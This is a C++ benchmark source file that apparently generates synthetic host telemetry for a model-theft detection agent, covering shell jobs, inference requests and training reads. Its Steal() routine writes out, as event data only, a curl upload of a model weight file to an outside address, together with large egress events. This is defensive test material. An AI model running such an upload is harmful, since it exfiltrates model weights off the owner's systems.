#include "tests/bench/busy_host.h"

#include <fmt/format.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "bpf/abi/event.h"

namespace tensorwarden {
namespace {

constexpr uint64_t kGapNs = 50'000;  // 20 000 events a second
constexpr uint64_t kTickNs = 1'000'000'000;
constexpr int kShells = 400;
constexpr int kShards = 64;
constexpr uint64_t kShardBytes = uint64_t{4} << 30;

struct Tool {
  const char* comm;
  const char* path;
  std::vector<std::string> args;
};

const std::vector<Tool>& Tools() {
  static const std::vector<Tool> tools = {
      {"ls", "/usr/bin/ls", {"ls", "--color=auto", "-la", "/srv/models"}},
      {"grep", "/usr/bin/grep", {"grep", "-rn", "import torch", "/home/alice/projects/finetune"}},
      {"python3", "/usr/bin/python3.11", {"python3", "/opt/tools/report.py", "--since", "1h", "--format", "json"}},
      {"cc1plus",
       "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus",
       {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "-quiet", "-I", "/usr/include/project", "-D_GNU_SOURCE",
        "src/main.cc", "-O2", "-Wall", "-o", "/tmp/ccQ7vM3x.s"}},
      {"sh", "/usr/bin/dash", {"sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.hourly"}},
      {"node_exporter",
       "/usr/bin/node_exporter",
       {"/usr/bin/node_exporter", "--collector.textfile.directory=/var/lib"}},
      {"git", "/usr/bin/git", {"git", "status", "--porcelain"}},
      {"curl", "/usr/bin/curl", {"curl", "-sf", "http://10.2.0.9:9090/-/healthy"}},
  };
  return tools;
}

constexpr const char* kOpened[] = {"/etc/ld.so.cache",
                                   "/lib/x86_64-linux-gnu/libc.so.6",
                                   "/usr/lib/python3/dist-packages/numpy/__init__.py",
                                   "/usr/lib/locale/locale-archive",
                                   "/proc/self/status",
                                   "/home/alice/projects/finetune/src/data/loader.py",
                                   "/var/log/journal/5f1c7c3e/system.journal",
                                   "/tmp/work.1842/partial.json"};

}  // namespace

uint64_t BusyHost::Random(uint64_t below) {
  random_ ^= random_ << 13;
  random_ ^= random_ >> 7;
  random_ ^= random_ << 17;
  return random_ % below;
}

ProcessKey BusyHost::NewProcess() {
  next_tgid_ = next_tgid_ >= 4'000'000 ? 2000 : next_tgid_ + 1;
  return {next_tgid_, now_ns_};
}

void BusyHost::Add(std::vector<Event>& events, ProcessKey actor, EventBody body) {
  now_ns_ += kGapNs;
  if (now_ns_ >= next_tick_ns_) {
    next_tick_ns_ = now_ns_ + kTickNs;
    events.push_back({.seq = ++seq_, .origin = {.ktime_ns = now_ns_}, .body = ClockTick{1'700'000'000'000'000'000}});
  }
  Event& event = events.emplace_back();
  event.seq = ++seq_;
  event.origin = {.ktime_ns = now_ns_, .cgroup_id = 4711, .process = actor, .tid = actor.tgid};
  event.body = std::move(body);
}

void BusyHost::Snapshot(std::vector<Event>& events, ProcessKey process, ProcessKey parent, ProcessExec exec) {
  exec.parent = parent;
  exec.exe = {8 << 20, ++next_inode_, 1};
  Add(events, process, ProcessSnapshot{std::move(exec)});
}

void BusyHost::Start(std::vector<Event>& events) {
  Add(events, {},
      AgentStart{
          .version = "bench", .hostname = "busy", .boot_id = "0", .realtime_offset_ns = 1'700'000'000'000'000'000});
  for (int i = 0; i < kShards; ++i) {
    const FileKey file{8 << 20, 1000 + static_cast<uint64_t>(i), 1};
    shards_.push_back(file);
    Add(events, {},
        AssetFound{.file = file,
                   .path = fmt::format("/srv/models/llama-{}/model-{:05}-of-00008.safetensors", i / 8, i % 8 + 1),
                   .name = fmt::format("llama-{}", i / 8),
                   .klass = "model",
                   .format = "safetensors",
                   .found_by = "config",
                   .size = kShardBytes});
  }
  const ProcessKey init{1, 1};
  Snapshot(events, init, {}, {.comm = "systemd", .path = "/usr/lib/systemd/systemd", .args = {"/sbin/init"}});
  server_ = NewProcess();
  Snapshot(events, server_, init,
           {.comm = "python3",
            .path = "/usr/bin/python3.11",
            .args = {"python3", "-m", "vllm.entrypoints.openai.api_server", "--port", "8000"},
            .cgroup = "/system.slice/vllm.service"});
  Add(events, server_, AssetHeld{.file = shards_[0], .mapped = true, .bytes = kShardBytes});
  Add(events, server_, Listener{{.local_address = "0.0.0.0", .local_port = 8000, .family = AF_INET}});
  trainer_ = NewProcess();
  Snapshot(events, trainer_, init,
           {.comm = "python3",
            .path = "/usr/bin/python3.11",
            .args = {"python3", "train_lora.py", "--base", "/srv/models/llama-1"},
            .cgroup = "/system.slice/train.service"});
  for (int i = 0; i < kShells; ++i) {
    shells_.push_back(NewProcess());
    Snapshot(events, shells_.back(), init,
             {.uid = 1000 + static_cast<uint32_t>(i),
              .comm = "bash",
              .path = "/usr/bin/bash",
              .cwd = "/home/alice/projects",
              .args = {"-bash"},
              .cgroup = fmt::format("/user.slice/user-{0}.slice/session-{0}.scope", 1000 + i)});
  }
}

SocketTuple BusyHost::Outgoing() {
  return {.local_address = "10.2.0.17",
          .peer_address = fmt::format("10.2.{}.{}", Random(8), Random(200) + 1),
          .local_port = static_cast<uint16_t>(32768 + Random(28000)),
          .peer_port = static_cast<uint16_t>(Random(2) == 0 ? 443 : 9090),
          .family = AF_INET,
          .protocol = IPPROTO_TCP,
          .direction = EVENT_DIRECTION_OUT,
          .net_ns = 4026531840};
}

// fork, exec, what the loader and the program open, a connection, exit: most of what happens on any host.
void BusyHost::Job(std::vector<Event>& events) {
  const size_t shell = Random(kShells);
  const ProcessKey process = NewProcess();
  const Tool& tool = Tools()[Random(Tools().size())];
  Add(events, shells_[shell], ProcessFork{process});
  Add(events, process,
      ProcessExec{.parent = shells_[shell],
                  .exe = {8 << 20, 5000 + Random(64), 1},
                  .uid = 1000 + static_cast<uint32_t>(shell),
                  .gid = 1000,
                  .login_uid = 1000,
                  .mnt_ns = 4026531841,
                  .pid_ns = 4026531836,
                  .comm = tool.comm,
                  .path = tool.path,
                  .cwd = "/home/alice/projects",
                  .args = tool.args,
                  .cgroup = fmt::format("/user.slice/user-{0}.slice/session-{0}.scope", 1000 + shell)});
  for (uint64_t left = 4 + Random(6); left > 0; --left) {
    Add(events, process,
        FileOpen{.file = {8 << 20, 7000 + Random(4000), 1}, .open_flags = 0x80000, .path = kOpened[Random(8)]});
  }
  if (Random(2) == 0) {
    const SocketTuple socket = Outgoing();
    const uint64_t cookie = ++next_cookie_;
    Add(events, process, SocketState{.socket = socket, .cookie = cookie, .op = EVENT_SOCK_CONNECT});
    Add(events, process,
        SocketState{
            .socket = socket, .cookie = cookie, .bytes_sent = 900, .bytes_received = 5000, .op = EVENT_SOCK_CLOSE});
  }
  Add(events, process, ProcessExit{});
}

// A request: accepted, metered, answered, closed.
void BusyHost::Serve(std::vector<Event>& events) {
  SocketTuple socket = Outgoing();
  socket.local_port = 8000;
  socket.peer_port = static_cast<uint16_t>(32768 + Random(28000));
  socket.direction = EVENT_DIRECTION_IN;
  const uint64_t cookie = ++next_cookie_;
  Add(events, server_, SocketState{.socket = socket, .cookie = cookie, .op = EVENT_SOCK_ACCEPT});
  for (int i = 0; i < 2; ++i) {
    Add(events, server_,
        HttpRequest{.socket = socket,
                    .cookie = cookie,
                    .method = "POST",
                    .path = "/v1/chat/completions",
                    .client = fmt::format("key:{:016x}", Random(300)),
                    .user_agent_hash = 77,
                    .prefix_hash = Random(1 << 20),
                    .body_hash = Random(UINT64_MAX),
                    .content_length = 900});
  }
  const uint64_t bytes = 2000 + Random(4000);
  served_bytes_ += bytes;
  Add(events, server_,
      Egress{
          .socket = socket, .cookie = cookie, .bytes = bytes, .delta = bytes, .volume = kShardBytes, .serving = true});
  Add(events, server_,
      SocketState{
          .socket = socket, .cookie = cookie, .bytes_sent = bytes, .bytes_received = 900, .op = EVENT_SOCK_CLOSE});
}

// Its base model, page range by page range, and the label that comes with it.
void BusyHost::Train(std::vector<Event>& events) {
  const FileKey shard = shards_[8 + Random(8)];
  for (int i = 0; i < 4; ++i) {
    const uint64_t page = Random(kShardBytes / 4096);
    Add(events, trainer_,
        FileRead{.file = shard,
                 .labels = 2,
                 .first_page = page,
                 .last_page = page + 255,
                 .bytes = 1 << 20,
                 .covered_bytes = 1 << 20,
                 .access = EVENT_ACCESS_READ});
  }
  Add(events, trainer_,
      LabelMove{.source = shard,
                .labels = 2,
                .volume = 4 << 20,
                .source_object = EVENT_OBJECT_FILE,
                .target_object = EVENT_OBJECT_PROCESS});
}

void BusyHost::Steal(std::vector<Event>& events) {
  const ProcessKey shell = shells_[Random(kShells)];
  const ProcessKey thief = NewProcess();
  Add(events, shell, ProcessFork{thief});
  Add(events, thief,
      ProcessExec{
          .parent = shell,
          .exe = {8 << 20, 6000, 1},
          .uid = 1000,
          .comm = "curl",
          .path = "/usr/bin/curl",
          .cwd = "/tmp",
          .args = {"curl", "-T", "/srv/models/llama-2/model-00001-of-00008.safetensors", "https://203.0.113.9/"}});
  Add(events, thief, FileRead{.file = shards_[16], .labels = 4, .bytes = 1 << 30, .covered_bytes = 1 << 30});
  SocketTuple socket = Outgoing();
  socket.peer_address = fmt::format("203.0.113.{}", Random(250));
  const uint64_t cookie = ++next_cookie_;
  for (uint64_t i = 1; i <= 20; ++i) {
    Add(events, thief,
        Egress{.socket = socket, .cookie = cookie, .bytes = i << 26, .delta = 1 << 26, .volume = 1 << 30, .label = 2});
  }
  Add(events, thief, ProcessExit{});
}

void BusyHost::Step(std::vector<Event>& events) {
  const uint64_t dice = Random(10'000);
  if (dice < 1) return Steal(events);
  if (dice < 2000) return Serve(events);
  if (dice < 3500) return Train(events);
  Job(events);
}

}  // namespace tensorwarden
